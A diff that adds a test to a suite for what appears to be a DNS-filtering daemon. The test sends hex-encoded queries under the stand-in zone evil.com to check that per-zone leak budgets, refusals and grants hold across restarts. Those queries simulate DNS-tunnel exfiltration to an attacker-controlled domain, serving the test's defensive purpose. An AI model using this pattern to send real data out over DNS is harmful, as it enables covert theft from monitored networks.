@@ -1,5 +1,6 @@
 # The record after a sudden death: whatever a client or an upstream got has its row.
 import collections
+import json
 import os
 import random
 import select
@@ -155,3 +156,51 @@ def _():
     wait_until(lambda: ask_udp("www.after.com", netns=inside.path, timeout=20).rcode == 0, "recovery",
                seconds=30)
     holds(daemon.rows("name = 'www.after.com'"), "no row after recovery")
+
+
+LEAK_OCTETS_A_NAME = 8
+ZONE_BUDGET = 256  # octets, profile `code`
+
+
+@case("what a session has told a zone stays told: over SIGTERM, kill -9 and attaching again, until a grant",
+      seconds=120)
+def _():
+    upstream = RecordingUpstream()
+    daemon, inside = Daemon(policy="on_tunnel: alert\n", upstream=(upstream.text,)), Namespace("mole")
+    refused = 0
+    for round_number in range(9):
+        daemon.attach(inside, session="mole")
+        for _ in range(6):
+            name = f"{os.urandom(LEAK_OCTETS_A_NAME).hex()}.evil.com"
+            refused += ask_udp(name, netns=inside.path).rcode == 3
+        if round_number % 3 == 0:
+            daemon.command("detach", "--name", "mole")
+        elif round_number % 3 == 1:
+            daemon.kill()
+            daemon.start()
+        else:
+            equal(daemon.stop(), 0)
+            daemon.start()
+    arrived = LEAK_OCTETS_A_NAME * len({seen.name for seen in upstream.queries() if seen.name.endswith(".evil.com")})
+    holds(ZONE_BUDGET / 4 < arrived <= ZONE_BUDGET, f"{arrived} octets arrived")
+    holds(refused > 20, f"{refused} refused")
+    daemon.attach(inside, session="mole")
+    shown = json.loads(daemon.command("leak", "mole", "--json").stdout)
+    zone = next(ledger for ledger in shown[0]["ledgers"] if ledger["name"] == "evil.com")
+    holds(75 < zone["percent"] <= 100, zone)
+    holds("evil.com" in daemon.command("leak").stdout and "#" in daemon.command("leak").stdout, "the table")
+    equal(ask_udp("more.evil.com", netns=inside.path).rcode_name in ("NOERROR", "NXDOMAIN"), True)
+    daemon.command("grant", "mole", "64", "--zone", "evil.com")
+    name = f"{os.urandom(LEAK_OCTETS_A_NAME).hex()}.evil.com"
+    equal(ask_udp(name, netns=inside.path).rcode_name, "NOERROR", "after a grant")
+    wrong = daemon.command("grant", "nobody", "64", check=False)
+    holds(wrong.returncode != 0 and "nobody" in wrong.stderr, wrong)
+    equal([(g["session"], g["zone"], g["octets"]) for g in daemon.read("SELECT * FROM grants ORDER BY id")],
+          [("mole", "evil.com", 64)])
+    daemon.kill()
+    daemon.start()
+    daemon.attach(inside, session="mole")
+    shown = json.loads(daemon.command("leak", "mole", "--json").stdout)
+    budget = next(ledger["budget_bits"] for ledger in shown[0]["ledgers"] if ledger["name"] == "evil.com")
+    equal(budget, (ZONE_BUDGET + 64) * 8, "the grant survives")
+    print(f"{arrived} octets arrived in 9 rounds, {refused} queries were refused")
